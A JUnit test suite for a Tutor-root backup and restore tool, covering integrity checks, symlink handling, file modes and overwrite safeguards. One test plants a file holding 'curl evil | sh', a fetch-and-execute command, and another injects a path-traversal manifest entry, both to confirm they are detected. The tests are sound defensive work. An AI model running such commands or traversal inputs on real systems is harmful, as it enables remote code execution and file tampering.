package io.arborist.tutor;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.arborist.core.ArboristException;
import io.arborist.core.ErrorKind;
import io.arborist.core.backup.BackupArtifact;
import io.arborist.core.backup.BackupRequest;
import io.arborist.core.plan.BackupTarget;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class TutorRootBackupTest {
    private static final String SECRET = "mysql-root-pw-9e41b7";
    private static final Path TEST_LOG = Path.of("target", "tutor-tests.log");

    @TempDir
    Path dir;
    Path root;
    Path outside;

    @BeforeEach
    void tutorRoot() throws Exception {
        root = Files.createDirectories(dir.resolve("tutor-root"));
        outside = Files.writeString(dir.resolve("outside.txt"), "outside the root: " + SECRET);
        Files.writeString(root.resolve("config.yml"), "MYSQL_ROOT_PASSWORD: " + SECRET + "\nLMS_HOST: learn.example.com\n");
        Files.setPosixFilePermissions(root.resolve("config.yml"), PosixFilePermissions.fromString("rw-r--r--"));
        Path local = Files.createDirectories(root.resolve("env/local"));
        Files.writeString(local.resolve("docker-compose.yml"), "services:\n  mysql:\n    environment:\n      PW: " + SECRET + "\n");
        Path apps = Files.createDirectories(root.resolve("env/apps/openedx/settings/lms"));
        Files.writeString(apps.resolve("production.py"), "SECRET_KEY = '" + SECRET + "'\n");
        Path script = Files.writeString(root.resolve("env/local/entrypoint.sh"), "#!/bin/sh\nexit 0\n");
        Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-x---"));
        Files.write(root.resolve("env/build-binary.bin"), new byte[] {0, 1, 2, (byte) 0xff, '\r', '\n'});
        Files.createDirectories(root.resolve("env/empty"));
        Files.createSymbolicLink(root.resolve("env/leak.txt"), outside);
        Process fifo = new ProcessBuilder("mkfifo", root.resolve("env/pipe").toString()).start();
        assertThat(fifo.waitFor()).isZero();
        Files.createDirectories(root.resolve("data/mysql"));
        Files.writeString(root.resolve("data/mysql/ibdata1"), "database files are not part of the root backup");
    }

    /** Every regular file under a directory, relative path to bytes, links not followed. */
    private static Map<String, String> tree(Path base) throws IOException {
        Map<String, String> out = new TreeMap<>();
        try (Stream<Path> walk = Files.walk(base)) {
            for (Path p : walk.toList()) {
                if (Files.isRegularFile(p, LinkOption.NOFOLLOW_LINKS)) {
                    out.put(base.relativize(p).toString(), new String(Files.readAllBytes(p), StandardCharsets.ISO_8859_1)
                            + " " + PosixFilePermissions.toString(Files.getPosixFilePermissions(p)));
                }
            }
        }
        return out;
    }

    @Test
    void round_trip_keeps_config_and_env_byte_for_byte_with_their_modes_and_never_follows_links() throws Exception {
        Path backups = dir.resolve("backups/run/tutor-root");

        TutorRootArchive archive = TutorRootBackup.of(root).backup(backups);

        assertThat(archive.files()).isEqualTo(5);
        assertThat(archive.source()).isEqualTo(root.toRealPath());
        assertThat(archive.skipped()).containsExactlyInAnyOrder("env/leak.txt (symbolic link)", "env/pipe (special file)");
        assertThat(backups.resolve("files/data")).doesNotExist();
        assertThat(backups.resolve("files/env/leak.txt")).doesNotExist();
        try (Stream<Path> walk = Files.walk(backups)) {
            for (Path p : walk.toList()) {
                assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(p))).as(p.toString())
                        .isEqualTo(Files.isDirectory(p) ? "rwx------" : "rw-------");
            }
        }
        String manifest = Files.readString(backups.resolve("manifest.json"));
        assertThat(manifest).contains("\"kind\" : \"tutor-root\"", "env/apps/openedx/settings/lms/production.py", "\"sha256\"")
                .doesNotContain(SECRET, "learn.example.com");
        assertThat(Files.readString(TEST_LOG)).contains("Backed up Tutor root").doesNotContain(SECRET);

        Path restored = dir.resolve("restored-root");
        TutorRootRestore.builder().build().restore(backups, restored);

        Map<String, String> expected = tree(root);
        expected.keySet().removeIf(k -> k.startsWith("data/"));
        assertThat(tree(restored)).isEqualTo(expected);
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(restored.resolve("env/local/entrypoint.sh"))))
                .isEqualTo("rwxr-x---");
        assertThat(restored.resolve("env/empty")).isEmptyDirectory();
        assertThat(restored.resolve("env/leak.txt")).doesNotExist();
        try (Stream<Path> list = Files.list(restored)) {
            assertThat(list.map(p -> p.getFileName().toString())).containsExactlyInAnyOrder("config.yml", "env");
        }
    }

    @Test
    void verify_finds_a_changed_byte_an_extra_file_a_missing_file_and_a_missing_manifest() throws Exception {
        Path a = dir.resolve("a");
        TutorRootBackup.of(root).backup(a);
        assertThat(TutorRootArchive.verify(a).files()).isEqualTo(5);

        Path compose = a.resolve("files/env/local/docker-compose.yml");
        byte[] bytes = Files.readAllBytes(compose);
        bytes[3] ^= 1;
        Files.write(compose, bytes);
        Files.writeString(a.resolve("files/env/planted.sh"), "curl evil | sh");
        Files.delete(a.resolve("files/env/build-binary.bin"));

        assertThatThrownBy(() -> TutorRootArchive.verify(a))
                .isInstanceOf(ArboristException.class)
                .hasMessageContaining("3 problem(s)")
                .hasMessageContaining("env/local/docker-compose.yml: SHA-256 differs from the manifest")
                .hasMessageContaining("env/planted.sh: not in the manifest")
                .hasMessageContaining("env/build-binary.bin: missing")
                .extracting(e -> ((ArboristException) e).kind()).isEqualTo(ErrorKind.VERIFICATION);
        assertThatThrownBy(() -> TutorRootRestore.builder().build().restore(a, dir.resolve("r")))
                .hasMessageContaining("is damaged");
        assertThat(dir.resolve("r")).doesNotExist();

        Files.delete(a.resolve("manifest.json"));
        assertThatThrownBy(() -> TutorRootArchive.read(a)).hasMessageContaining("is not a complete Tutor-root backup");
        assertThat(TutorRootBackup.of(root).isComplete(a)).isFalse();
    }

    @Test
    void a_manifest_pointing_outside_the_root_is_refused() throws Exception {
        Path a = dir.resolve("a");
        TutorRootBackup.of(root).backup(a);
        String manifest = Files.readString(a.resolve("manifest.json"));
        Files.writeString(a.resolve("manifest.json"), manifest.replace("\"env/local/entrypoint.sh\"", "\"env/../../../escape.sh\""));

        assertThatThrownBy(() -> TutorRootRestore.builder().build().restore(a, dir.resolve("r")))
                .hasMessageContaining("the manifest is malformed").hasMessageContaining("outside config.yml and env/");
        assertThat(dir.resolve("escape.sh")).doesNotExist();
    }

    @Test
    void restore_refuses_an_existing_configuration_unless_told_and_then_sets_it_aside() throws Exception {
        Path a = dir.resolve("a");
        TutorRootBackup.of(root).backup(a);
        Path target = Files.createDirectories(dir.resolve("live"));
        Files.writeString(target.resolve("config.yml"), "LMS_HOST: new.example.com\n");
        Files.createDirectories(target.resolve("env/local"));
        Files.writeString(target.resolve("env/local/docker-compose.yml"), "new");

        assertThatThrownBy(() -> TutorRootRestore.builder().build().restore(a, target))
                .isInstanceOf(ArboristException.class)
                .hasMessageContaining("already has a config.yml and a non-empty env/")
                .hasMessageContaining("replaceExisting(true)");
        assertThat(target.resolve("config.yml")).hasContent("LMS_HOST: new.example.com");

        TutorRootRestore.builder().replaceExisting(true).build().restore(a, target);

        assertThat(Files.readString(target.resolve("config.yml"))).contains("learn.example.com");
        try (Stream<Path> list = Files.list(target)) {
            List<String> names = list.map(p -> p.getFileName().toString()).toList();
            assertThat(names).anyMatch(n -> n.startsWith("config.yml.arborist-replaced-"))
                    .anyMatch(n -> n.startsWith("env.arborist-replaced-")).hasSize(4);
            Path oldEnv = target.resolve(names.stream().filter(n -> n.startsWith("env.")).findFirst().orElseThrow());
            assertThat(oldEnv.resolve("local/docker-compose.yml")).hasContent("new");
        }
    }

    @Test
    void an_empty_env_directory_does_not_count_as_existing() throws Exception {
        Path a = dir.resolve("a");
        TutorRootBackup.of(root).backup(a);
        Path target = Files.createDirectories(dir.resolve("fresh/env"));

        TutorRootRestore.builder().build().restore(a, target.getParent());

        assertThat(target.resolve("local/docker-compose.yml")).exists();
    }

    @Test
    void links_where_config_or_env_should_be_fail_the_backup_and_leave_nothing_complete() throws Exception {
        Path linked = Files.createDirectories(dir.resolve("linked-root"));
        Files.createSymbolicLink(linked.resolve("config.yml"), root.resolve("config.yml"));
        Path out = dir.resolve("out");

        assertThatThrownBy(() -> TutorRootBackup.of(linked).backup(out))
                .isInstanceOf(ArboristException.class)
                .hasMessageContaining("config.yml is symbolic link, not a regular file")
                .hasMessageContaining("does not follow links")
                .extracting(e -> ((ArboristException) e).kind()).isEqualTo(ErrorKind.BACKUP);
        assertThat(out.resolve("manifest.json")).doesNotExist();

        Files.delete(linked.resolve("config.yml"));
        Files.writeString(linked.resolve("config.yml"), "LMS_HOST: x\n");
        Files.createSymbolicLink(linked.resolve("env"), root.resolve("env"));
        assertThatThrownBy(() -> TutorRootBackup.of(linked).backup(out)).hasMessageContaining("env is symbolic link, not a directory");
        assertThat(out.resolve("manifest.json")).doesNotExist();
        assertThat(out.resolve("files")).doesNotExist();
    }

    @Test
    void bad_roots_and_directories_get_one_clear_error() throws IOException {
        assertThatThrownBy(() -> TutorRootBackup.of(dir.resolve("nowhere")).backup(dir.resolve("o1")))
                .hasMessageContaining("cannot be read").hasMessageContaining("tutor config printroot");
        assertThatThrownBy(() -> TutorRootBackup.of(Files.createDirectories(dir.resolve("empty-root"))).backup(dir.resolve("o2")))
                .hasMessageContaining("no config.yml in").hasMessageContaining("it is not a Tutor root");
        Path busy = Files.createDirectories(dir.resolve("busy"));
        Files.writeString(busy.resolve("keep.txt"), "precious", StandardOpenOption.CREATE);
        assertThatThrownBy(() -> TutorRootBackup.of(root).backup(busy))
                .hasMessageContaining("is not empty")
                .extracting(e -> ((ArboristException) e).kind()).isEqualTo(ErrorKind.CONFIGURATION);
        assertThat(busy.resolve("keep.txt")).hasContent("precious");
        assertThatThrownBy(() -> TutorRootBackup.of(root).backup(root.resolve("env/backups/tutor-root")))
                .hasMessageContaining("which it backs up; put backups outside env/");
        assertThat(root.resolve("env/backups")).doesNotExist();
    }

    @Test
    void as_a_provider_it_saves_only_the_tutor_root_and_can_ask_tutor_for_it() throws IOException {
        FakeTutor fake = FakeTutor.install(Files.createDirectories(dir.resolve("bin")));
        TutorRootBackup provider = TutorRootBackup.using(fake.runner().environment("FAKE_ROOT", root.toString()).build());

        BackupArtifact artifact = provider.backup(new BackupRequest("02-lilac-backup", BackupTarget.TUTOR_ROOT, dir.resolve("p")));

        assertThat(artifact.id()).isEqualTo("02-lilac-backup/tutor-root");
        assertThat(artifact.location()).isEqualTo(new io.arborist.core.backup.store.Destination.LocalDirectory(dir.resolve("p")));
        assertThat(provider.isComplete(dir.resolve("p"))).isTrue();
        assertThat(fake.argvs()).containsExactly(List.of("config", "printroot"));
        for (BackupTarget other : List.of(BackupTarget.SEARCH_INDEX, BackupTarget.MONGODB)) {
            assertThatThrownBy(() -> provider.backup(new BackupRequest("s", other, dir.resolve("q"))))
                    .hasMessageContaining("saves TUTOR_ROOT targets, not " + other);
        }
        assertThat(dir.resolve("q")).doesNotExist();
    }
}
